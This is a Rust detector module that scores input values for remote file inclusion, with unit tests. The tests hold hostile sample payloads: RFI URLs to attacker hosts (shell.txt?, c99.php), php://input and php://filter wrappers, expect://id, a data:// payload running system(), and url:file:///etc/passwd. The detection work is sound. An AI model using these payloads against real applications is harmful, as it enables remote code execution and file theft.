//! Remote file inclusion: a value that makes an `include`-style sink load code from elsewhere.
//! Real traffic carries plenty of URLs (redirect targets, websites, referers), so a URL alone
//! is never enough; the score comes from RFI-specific signals of the *fetched resource*:
//!
//! * a script or text extension (`.php`, `.txt`, `.inc`, `.jsp` ...) cut off by a trailing `?`,
//!   `%00`/NUL or `#`, the trick that neutralises an extension the application appends;
//! * a script/text resource on a bare IP address;
//! * a text/payload resource (`.txt`, `.inc`, `.sh` ...) — servers serve those as source;
//! * a URL placed as a parameter value inside another URL or path (`/x.php?path=http://...`);
//! * UNC paths (`\\host\share\x.php`) and PHP stream wrappers (`php://input`, `php://filter`,
//!   `data://text/plain;base64,`, `expect://`, `phar://`, `zip://`).
//!
//! A plain page URL (`https://example.com/a`, `https://shop.example/item.php?id=3`) scores
//! below the threshold.

use crate::check::Check;
use crate::finding::Finding;

/// Scores at or above this are findings; weaker evidence is dropped.
pub const THRESHOLD: f32 = 0.5;

/// URLs examined per value.
const MAX_URLS: usize = 64;
/// Bytes of one URL examined.
const MAX_URL: usize = 2048;

/// Extensions of pages a web server runs.
const PAGE_EXT: [&str; 14] = [
    "php", "php3", "php4", "php5", "php7", "phtml", "jsp", "jspx", "asp", "aspx", "cgi", "cfm",
    "pl", "phar",
];
/// Extensions of files a server hands out as text: the usual carrier of an included payload.
const TEXT_EXT: [&str; 5] = ["txt", "inc", "sh", "py", "rb"];

pub fn inspect(text: &str) -> Option<Finding> {
    // Wrappers, data URIs, odd schemes and scheme URLs all hold a colon; the rest start with
    // `//` (protocol-relative) or `\\` (UNC): one pass instead of a pass per rule.
    if !could_hold_a_reference(text) {
        return None;
    }
    let mut best: Option<(f32, String)> = None;
    let mut keep = |score: f32, why: String| {
        if best.as_ref().is_none_or(|(s, _)| score > *s) {
            best = Some((score, why));
        }
    };
    // Page URLs ("https://...", "http://...") name no wrapper, data URI or odd scheme: one
    // pass over the colons spares the three passes of those rules.
    let scheme_word = names_a_scheme_word(text.as_bytes());
    if let Some((s, w)) = scheme_word.then(|| wrapper(text)).flatten() {
        keep(s, w);
    }
    if let Some((s, w)) = unc(text) {
        keep(s, w);
    }
    if let Some((s, w)) = scheme_word.then(|| odd_scheme(text)).flatten() {
        keep(s, w);
    }
    for url in urls(text).take(MAX_URLS) {
        if let Some((s, w)) = judge(text, &url) {
            keep(s, w);
        }
    }
    let (score, why) = best?;
    (score >= THRESHOLD).then(|| Finding::new(Check::Rfi, score, why))
}

/// Whether any rule can read `text`: a colon anywhere, or a value starting with `//` or `\\`.
fn could_hold_a_reference(text: &str) -> bool {
    let lead = text.trim_start();
    memchr::memchr(b':', text.as_bytes()).is_some()
        || lead.starts_with("//")
        || lead.starts_with("\\\\")
}

/// The words before a colon that [`wrapper`], [`data_code`] and [`odd_scheme`] read: a value
/// without one gets nothing from them.
const SCHEME_WORDS: [&str; 11] = [
    "php",
    "expect",
    "phar",
    "zip",
    "data",
    "gopher",
    "dict",
    "tftp",
    "local_file",
    "url:file",
    "netdoc",
];

/// Whether a colon of `b` ends one of the [`SCHEME_WORDS`] (any case).
fn names_a_scheme_word(b: &[u8]) -> bool {
    memchr::memchr_iter(b':', b).any(|i| {
        // The last letters of the words: "https" (`s`) is done after one byte.
        i > 0
            && matches!(
                b[i - 1].to_ascii_lowercase(),
                b'p' | b't' | b'r' | b'a' | b'e' | b'c'
            )
            && SCHEME_WORDS
                .iter()
                .any(|w| i >= w.len() && b[i - w.len()..i].eq_ignore_ascii_case(w.as_bytes()))
    })
}

/// One remote URL found in the value.
struct Url<'a> {
    scheme: &'static str,
    /// Byte offset of the scheme in the value.
    at: usize,
    host: &'a str,
    /// What precedes `@` in the authority, if anything.
    userinfo: Option<&'a str>,
    /// Bytes of the authority (user information, host, port).
    authority_len: usize,
    path: &'a str,
    /// What follows the path (query, fragment, NUL ...), up to the end of the URL.
    tail: &'a str,
}

/// Offsets of every `://`, found from its colon: a one-byte scan costs less than a substring
/// searcher's setup on every value.
fn scheme_separators(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    memchr::memchr_iter(b':', b).filter(move |&i| b[i + 1..].starts_with(b"//"))
}

fn urls(text: &str) -> impl Iterator<Item = Url<'_>> {
    let b = text.as_bytes();
    let lead = text.len() - text.trim_start().len();
    // Protocol-relative `//host/x.php` at the start of the value.
    let relative = text[lead..]
        .starts_with("//")
        .then_some((lead, lead + 2, "http"));
    let schemes = scheme_separators(b).filter_map(move |i| {
        // The scheme is the longest known suffix of the letters before `://`, so a name
        // glued to it (`?pagehttp://`, from a lost `=`) still counts.
        let s: &'static str = ["https", "http", "ftps", "ftp", "smb"]
            .into_iter()
            .find(|s| i >= s.len() && b[i - s.len()..i].eq_ignore_ascii_case(s.as_bytes()))?;
        let start = i - s.len();
        Some((start, i + 3, s))
    });
    relative
        .into_iter()
        .chain(schemes)
        .map(move |(at, body, scheme)| {
            let rest = clip(&text[body..], MAX_URL);
            let auth_end = find_end(rest, &AUTHORITY_ENDS).unwrap_or(rest.len());
            let auth = &rest[..auth_end];
            let at_sign = auth.rfind('@');
            let host = at_sign.map_or(auth, |p| &auth[p + 1..]);
            let host = if host.starts_with('[') {
                host.find(']').map_or(host, |p| &host[..=p])
            } else {
                host.split(':').next().unwrap_or(host)
            };
            let after = &rest[auth_end..];
            let path_end = find_end(after, &PATH_ENDS).unwrap_or(after.len());
            // Whatever ends the URL also ends its path: the tail's end lies at or after it.
            let tail_end =
                find_end(&after[path_end..], &URL_ENDS).map_or(after.len(), |k| path_end + k);
            Url {
                scheme,
                at,
                host,
                userinfo: at_sign.map(|p| &auth[..p]),
                authority_len: auth_end,
                path: &after[..path_end],
                tail: &after[path_end..tail_end.max(path_end)],
            }
        })
}

/// ASCII whitespace, as `char::is_whitespace` reads it.
const SPACES: &[u8] = b" \t\n\x0B\x0C\r";
/// What ends the authority of a URL: a separator, query, fragment, `&`, NUL or whitespace.
static AUTHORITY_ENDS: [bool; 256] = with_spaces(b"/\\?#&\0");
/// What ends its path: a query, fragment, `&`, NUL, escape, or the end of the URL.
static PATH_ENDS: [bool; 256] = with_spaces(b"?#&\0%\"'<>");
/// What ends the URL itself: quotes, angle brackets or whitespace.
static URL_ENDS: [bool; 256] = with_spaces(b"\"'<>");

/// `bytes`, ASCII whitespace and every non-ASCII byte (where [`find_end`] decodes a character).
const fn with_spaces(bytes: &[u8]) -> [bool; 256] {
    let mut t = crate::detect::prefilter::byte_set(bytes);
    let mut k = 0;
    while k < SPACES.len() {
        t[SPACES[k] as usize] = true;
        k += 1;
    }
    let mut c = 0x80;
    while c < 256 {
        t[c] = true;
        c += 1;
    }
    t
}

/// The offset of the first character of `s` that `ends` marks or that is whitespace: `str::find`
/// with a closure, read a byte at a time. The tables mark every non-ASCII byte; only there is a
/// character decoded, and it ends the search only if it is whitespace (no other rule names one).
fn find_end(s: &str, ends: &[bool; 256]) -> Option<usize> {
    let b = s.as_bytes();
    let mut i = 0;
    loop {
        i += b[i..].iter().position(|&c| ends[c as usize])?;
        if b[i].is_ascii() {
            return Some(i);
        }
        let c = s[i..].chars().next()?;
        if c.is_whitespace() {
            return Some(i);
        }
        i += c.len_utf8();
    }
}

fn judge(text: &str, u: &Url) -> Option<(f32, String)> {
    if u.host.is_empty() {
        return None;
    }
    let ext = extension(u.path);
    let page = PAGE_EXT.contains(&ext.as_str());
    let textish = TEXT_EXT.contains(&ext.as_str());
    // The URL sits in the query of another URL or path (`/x.php?path=http://...`); when that
    // outer resource is itself a script, the parameter is what it includes.
    let before = &text[..u.at];
    let nested = before.contains('?');
    // Every score below needs user information, an `@` in the path, a script or text
    // extension, an ftp/ftps/smb scheme, an empty query or an outer `?`: a plain page URL
    // (`https://shop.example.com/p/42?c=blue`) has none and is read no further.
    let may_score = page
        || textish
        || nested
        || u.userinfo.is_some()
        || u.path.contains('@')
        || u.tail == "?"
        || matches!(u.scheme, "ftp" | "ftps" | "smb");
    if !may_score {
        return None;
    }
    let cut = cut_marker(u.tail);
    let ip = is_ipv4(u.host) || u.host.starts_with('[');
    let outer_script = nested && {
        let outer_path = before.split('?').next().unwrap_or("");
        // A directory (`/admin/?x=`) is served by its index script.
        outer_path.ends_with('/') || PAGE_EXT.contains(&extension(outer_path).as_str())
    };
    let standalone = before.trim().is_empty();
    let what = if page { "script" } else { "text" };
    // The evidence, formatted once with its "remote <scheme> URL: " prefix.
    macro_rules! remote {
        ($($why:tt)*) => {
            format!("remote {} URL: {}", u.scheme, format_args!($($why)*))
        };
    }
    let whole = standalone && text[u.at..].trim_end().len() == u.scheme.len() + 3 + u_len(u);
    let (score, why) = if disguised_host(u) {
        (
            0.6,
            remote!("credentials part spelled like a host name, hiding the real host"),
        )
    } else if let Some(other) = host_behind_slash(u) {
        (
            0.6,
            remote!(
                "a second host '{other}' after '/@' or '/:...@', where an encoded slash hid it"
            ),
        )
    } else if (page || textish) && cut.is_some() {
        (
            0.9,
            remote!(
                "{what} resource .{ext} with the appended extension cut off by {}",
                cut.unwrap_or("")
            ),
        )
    } else if (page || textish) && ip {
        (0.8, remote!("{what} resource .{ext} on a bare IP host"))
    } else if (page || textish) && outer_script {
        (
            0.8,
            remote!("URL of a {what} resource .{ext} passed to a script as a parameter"),
        )
    } else if textish && (standalone || outer_script) {
        (
            0.6,
            remote!("URL of a text resource .{ext} (served as source, not run)"),
        )
    } else if textish {
        (
            0.45,
            remote!("URL of a text resource .{ext} inside other text"),
        )
    } else if matches!(u.scheme, "ftp" | "ftps" | "smb") && !u.path.trim_matches('/').is_empty() {
        (0.55, remote!("{} URL of a file for inclusion", u.scheme))
    } else if whole && u.tail == "?" {
        // The whole value is a URL closed by an empty query: what a suffix the application
        // appends ("http://x/y" + ".php") turns into a harmless query string.
        (
            0.55,
            remote!("URL ending in an empty query '?' that cuts off an appended suffix"),
        )
    } else if page {
        (0.35, remote!("URL of a .{ext} page"))
    } else if outer_script {
        (0.45, remote!("URL passed to a script as a parameter"))
    } else {
        return None;
    };
    Some((score, why))
}

/// Bytes of the URL after `://` up to the end of its tail.
fn u_len(u: &Url) -> usize {
    u.authority_len + u.path.len() + u.tail.len()
}

/// `http://trusted.example%2f@evil.example/`: user information that looks like a host (a dot,
/// or an encoded slash) makes a reader see one host while the fetcher contacts another.
fn disguised_host(u: &Url) -> bool {
    let Some(info) = u.userinfo else { return false };
    let user = info.split(':').next().unwrap_or(info);
    let lower = user.to_ascii_lowercase();
    lower.contains("%2f") || lower.contains("%5c") || (user.contains('.') && !user.contains(' '))
}

/// `http://example.com/@evil.com/`, `http://example.com/:pw@evil.com/`: the decoded reading of
/// `http://example.com%2f@evil.com/`, whose real host is the one after `@` for a fetcher that
/// does not decode the slash, while a checker sees `example.com`. A profile path
/// (`https://social.example/@ana`) has no host after the `@`: with nothing before the `@`, the
/// name must end in a common top-level domain or be an address.
fn host_behind_slash<'a>(u: &Url<'a>) -> Option<&'a str> {
    let first = u.path.strip_prefix('/')?;
    let seg = first.split('/').next().unwrap_or(first);
    let (info, host) = seg.rsplit_once('@')?;
    if !(info.is_empty() || info.starts_with(':')) {
        return None;
    }
    let host = host.split(':').next().unwrap_or(host);
    let labels_ok = host.split('.').count() >= 2
        && host
            .split('.')
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'));
    if !labels_ok {
        return None;
    }
    let tld = host.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
    let known = COMMON_TLDS.contains(&tld.as_str()) || is_ipv4(host);
    (known || info.starts_with(':')).then_some(host)
}

/// Top-level domains common enough that a `name.tld` after `@` reads as a host, not a handle.
const COMMON_TLDS: [&str; 18] = [
    "com", "net", "org", "io", "co", "info", "biz", "xyz", "top", "ru", "cn", "de", "uk", "me",
    "cc", "tk", "pw", "su",
];

/// Schemes a URL fetcher or stream API follows but that no form value needs: gopher and dict
/// reach arbitrary TCP services, `local_file:`/`url:file:`/`netdoc:` read local files through
/// URL APIs.
fn odd_scheme(text: &str) -> Option<(f32, String)> {
    // Each scheme ends at a colon: look back from every colon instead of lower-casing the
    // value and searching it once per scheme.
    const SCHEMES: [(&str, &str); 6] = [
        ("gopher", "gopher://"),
        ("dict", "dict://"),
        ("tftp", "tftp://"),
        ("local_file", "local_file:"),
        ("url:file", "url:file:"),
        ("netdoc", "netdoc:"),
    ];
    let b = text.trim_start().as_bytes();
    let spelled_at = |at: usize, s: &str| {
        b.get(at..at + s.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(s.as_bytes()))
    };
    for i in memchr::memchr_iter(b':', b) {
        for (name, scheme) in SCHEMES {
            let Some(p) = i.checked_sub(name.len()) else {
                continue;
            };
            if !spelled_at(p, scheme) {
                continue;
            }
            let glued = p > 0 && (b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_');
            if !glued && b.len() > p + scheme.len() {
                return Some((0.6, format!("URL scheme {scheme} that reads outside HTTP")));
            }
        }
    }
    None
}

/// The extension of the last path segment, lower-cased.
fn extension(path: &str) -> Ext {
    let seg = path
        .bytes()
        .rposition(|c| c == b'/' || c == b'\\')
        .map_or(path, |p| &path[p + 1..]);
    let mut ext = Ext {
        bytes: [0; 5],
        len: 0,
    };
    if let Some((stem, e)) = seg.rsplit_once('.') {
        if !stem.is_empty() && e.len() <= 5 {
            ext.bytes[..e.len()].copy_from_slice(e.as_bytes());
            ext.bytes[..e.len()].make_ascii_lowercase();
            ext.len = e.len();
        }
    }
    ext
}

/// An extension of at most five bytes, held without an allocation: every URL has one read.
struct Ext {
    bytes: [u8; 5],
    len: usize,
}

impl Ext {
    fn as_str(&self) -> &str {
        // A whole `&str` with its ASCII letters lower-cased: always UTF-8.
        std::str::from_utf8(&self.bytes[..self.len]).unwrap_or("")
    }
}

impl std::fmt::Display for Ext {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        std::fmt::Display::fmt(self.as_str(), f)
    }
}

/// A trailing `?` with an empty query, a NUL (`%00`, `\0`), or a bare `#`.
fn cut_marker(tail: &str) -> Option<&'static str> {
    if tail.starts_with('\0') || tail.starts_with("%00") {
        return Some("a NUL byte");
    }
    if let Some(q) = tail.strip_prefix('?') {
        if q.is_empty() || q.starts_with(['&', '?', '#']) || q.starts_with("%00") {
            return Some("an empty query '?'");
        }
    }
    if tail == "#" {
        return Some("an empty fragment '#'");
    }
    None
}

fn is_ipv4(host: &str) -> bool {
    host.parse::<std::net::Ipv4Addr>().is_ok()
        || (!host.is_empty()
            && host
                .bytes()
                .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x' || b == b'X')
            && host.bytes().next().is_some_and(|b| b.is_ascii_digit()))
}

/// PHP stream wrappers that read request data, local files or archives as code.
fn wrapper(text: &str) -> Option<(f32, String)> {
    // Every wrapper below is a scheme name, `://` and maybe more: read them at the scheme
    // separators, in this order (the first one found wins), with no lower-cased copy.
    let b = text.as_bytes();
    const WRAPPERS: [(&str, &str, &str, f32); 6] = [
        ("php://input", "php", "input", 0.9),
        ("php://filter", "php", "filter", 0.8),
        ("expect://", "expect", "", 0.9),
        ("phar://", "phar", "", 0.8),
        ("zip://", "zip", "", 0.75),
        ("php://fd", "php", "fd", 0.8),
    ];
    // Which wrappers the value holds, found in one pass; the first in the list wins.
    let mut found = 0u8;
    for i in scheme_separators(b) {
        for (k, (_, name, more, _)) in WRAPPERS.iter().enumerate() {
            let named =
                i >= name.len() && b[i - name.len()..i].eq_ignore_ascii_case(name.as_bytes());
            if named
                && b.get(i + 3..i + 3 + more.len())
                    .is_some_and(|m| m.eq_ignore_ascii_case(more.as_bytes()))
            {
                found |= 1 << k;
            }
        }
    }
    if found != 0 {
        let (w, _, _, score) = WRAPPERS[found.trailing_zeros() as usize];
        return Some((score, format!("PHP stream wrapper {w}")));
    }
    data_code(text)
}

/// `data://text/plain;base64,...` or `data:text/plain,...` whose payload is PHP code: the
/// wrapper `include` runs. Other data URIs (images in rich text) are not inclusion.
fn data_code(text: &str) -> Option<(f32, String)> {
    use base64::Engine as _;
    let b = text.as_bytes();
    if !memchr::memchr_iter(b':', b).any(|p| p >= 4 && b[p - 4..p].eq_ignore_ascii_case(b"data")) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let p = lower.find("data:")?;
    let rest = lower[p + 5..].trim_start_matches('/');
    if !rest.starts_with("text/plain") && !rest.starts_with("application/x-httpd-php") {
        return None;
    }
    let comma = rest.find(',')?;
    let payload_at = text.len() - rest.len() + comma + 1;
    let payload = text[payload_at..].split_whitespace().next().unwrap_or("");
    let code = if rest[..comma].ends_with(";base64") {
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(
                payload.trim_end_matches('=').to_string()
                    + &"=".repeat((4 - payload.trim_end_matches('=').len() % 4) % 4),
            )
            .ok()?;
        String::from_utf8_lossy(&bytes).to_ascii_lowercase()
    } else {
        payload.to_ascii_lowercase()
    };
    (code.contains("<?php") || code.contains("<?=") || code.contains("<? "))
        .then(|| (0.9, "data: wrapper carrying PHP code".to_string()))
}

/// `\\host\share\path`: a Windows UNC path, fetched over SMB by `include`.
fn unc(text: &str) -> Option<(f32, String)> {
    let t = text.trim_start();
    let rest = t.strip_prefix("\\\\")?;
    let host_end = rest.find('\\')?;
    let host = &rest[..host_end];
    if host.is_empty()
        || !host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
    {
        return None;
    }
    let path = &rest[host_end..];
    let ext = extension(path.split(['?', '%', '\0']).next().unwrap_or(""));
    if PAGE_EXT.contains(&ext.as_str()) || TEXT_EXT.contains(&ext.as_str()) {
        return Some((0.85, format!("UNC path to a .{ext} file on host '{host}'")));
    }
    Some((0.45, format!("UNC path on host '{host}'")))
}

use crate::clip::clip;

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> bool {
        inspect(s).is_some_and(|f| f.score >= 0.5)
    }

    #[test]
    fn inclusion_payloads() {
        for s in [
            "http://evil.com/shell.txt?",
            "http://evil.com/shell.php?",
            "ftp://x.example/y.txt%00",
            "http://evil.example/x.php\u{0}",
            "\\\\attacker\\share\\x.php",
            "https://pastebin.com/raw/abc.txt?",
            "http://203.0.113.8/r57.php",
            "http://evil/x.txt",
            "/index.php?page=http://evil.example/c99.php",
            "php://input",
            "php://filter/convert.base64-encode/resource=index.php",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
            "expect://id",
            "//evil.example/shell.txt?",
            "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
            "data://text/plain,<?php system('id'); ?>",
            "https://[2001:db8::1]/gecko.php",
            "<a probe=\"http://198.51.100.7/crash.php\"></a>",
            "/index.php?pagehttp://attacker.test/c99.php",
        ] {
            assert!(flagged(s), "{s}");
        }
    }

    #[test]
    fn ordinary_urls_pass() {
        for s in [
            "https://example.com/a",
            "https://www.example.com/",
            "https://github.com/x/y",
            "https://shop.example/item.php?id=3",
            "http://blog.example/index.php",
            "https://example.com/login?next=https://example.com/home",
            "https://www.google.com/search?q=php+include",
            "see https://docs.python.org/3/library/os.html",
            "data:image/png;base64,iVBORw0KGgo=",
            "C:\\Users\\me\\notes.txt",
            "report.txt",
            "\\\\fileserver\\docs\\report.pdf",
            "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
            "https://www.google.com/url?sa=t&url=http://example.org/files/notes.txt&ei=x",
        ] {
            assert!(!flagged(s), "{s}");
        }
    }

    #[test]
    fn url_tricks_and_odd_schemes() {
        for s in [
            "https://cdn.example.org?",
            "http://login.example.com%2f@198.51.100.4/x",
            "http://a.example%5c@b.example/",
            "dict://127.0.0.1:11211/stat",
            "url:file:///etc/passwd",
            "http://example.com/@evil.example.com/",
            "http://example.com/:pw@evil.example/",
            "http://example.com/:a@b@attacker.example/x",
            "https://example.com/@198.51.100.4",
        ] {
            assert!(flagged(s), "{s}");
        }
        for s in [
            "https://cdn.example.org?v=3",
            "http://user:pw@example.com/",
            "see https://example.com/faq? it helps",
            "the gopher protocol",
            "mailto:someone@example.com",
            "https://medium.com/@jane.doe/my-first-post-1a2b3c",
            "https://mastodon.social/@ana",
            "https://mastodon.social/@ana@fosstodon.org",
            "https://example.com/team/@ana.example.com",
            "https://example.com/contact?mail=ana@example.com",
        ] {
            assert!(!flagged(s), "{s}");
        }
    }

    #[test]
    fn scheme_word_gate_hides_nothing() {
        for w in SCHEME_WORDS {
            let last = w.as_bytes()[w.len() - 1];
            assert!(
                matches!(last, b'p' | b't' | b'r' | b'a' | b'e' | b'c'),
                "{w}"
            );
        }
        // Every value the three gated rules flag names a scheme word.
        for s in [
            "php://input",
            "PHP://filter/resource=x",
            "  expect://id",
            "phar://x.phar/y",
            "zip://a.zip#b",
            "data://text/plain,<?php system('id'); ?>",
            "data:text/plain,<?= 1 ?>",
            "gopher://127.0.0.1:25/",
            "DICT://127.0.0.1:11211/stat",
            "tftp://x/y",
            "local_file:///etc/passwd",
            "url:file:///etc/passwd",
            "netdoc:/etc/passwd",
        ] {
            assert!(
                wrapper(s).is_some() || odd_scheme(s).is_some(),
                "sample {s}"
            );
            assert!(names_a_scheme_word(s.as_bytes()), "{s}");
        }
        for s in [
            "https://shop.example.com/products/42?color=blue",
            "http://evil.example/shell.txt?",
            "ftp://x.example/y.txt",
            "at 10:30",
        ] {
            assert!(!names_a_scheme_word(s.as_bytes()), "{s}");
            assert!(wrapper(s).is_none() && odd_scheme(s).is_none(), "{s}");
        }
    }

    #[test]
    fn url_ends_read_by_bytes_as_by_chars() {
        let by_rule = |s: &str, f: fn(char) -> bool| s.find(f);
        for s in [
            "a b",
            "x\u{a0}y",
            "é/ü?x",
            "host\u{2003}/p",
            "a\tb",
            "a\x0bb",
            "a\x1cb",
            "p%41'q",
            "\u{85}",
            "plain",
        ] {
            assert_eq!(
                find_end(s, &AUTHORITY_ENDS),
                by_rule(s, |c| matches!(c, '/' | '\\' | '?' | '#' | '&' | '\0')
                    || c.is_whitespace()),
                "{s:?}"
            );
            assert_eq!(
                find_end(s, &PATH_ENDS),
                by_rule(s, |c| matches!(
                    c,
                    '?' | '#' | '&' | '\0' | '%' | '"' | '\'' | '<' | '>'
                ) || c.is_whitespace()),
                "{s:?}"
            );
            assert_eq!(
                find_end(s, &URL_ENDS),
                by_rule(s, |c| matches!(c, '"' | '\'' | '<' | '>')
                    || c.is_whitespace()),
                "{s:?}"
            );
        }
        for c in (0u8..0x80).map(char::from) {
            assert_eq!(SPACES.contains(&(c as u8)), c.is_whitespace(), "{c:?}");
        }
    }

    #[test]
    fn reference_gate() {
        for s in ["//evil.example/x.txt?", " \\\\host\\share\\x.php", "a:b"] {
            assert!(could_hold_a_reference(s), "{s}");
        }
        for s in [
            "/api/v1/orders?page=2",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "a\\b",
        ] {
            assert!(!could_hold_a_reference(s), "{s}");
            assert!(inspect(s).is_none(), "{s}");
        }
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let _ = inspect(&"http://".repeat(20_000));
        let _ = inspect(&"a://b/".repeat(20_000));
        let _ = inspect("http://é/ü.php?");
        let _ = inspect("\\\\\\\\");
    }
}
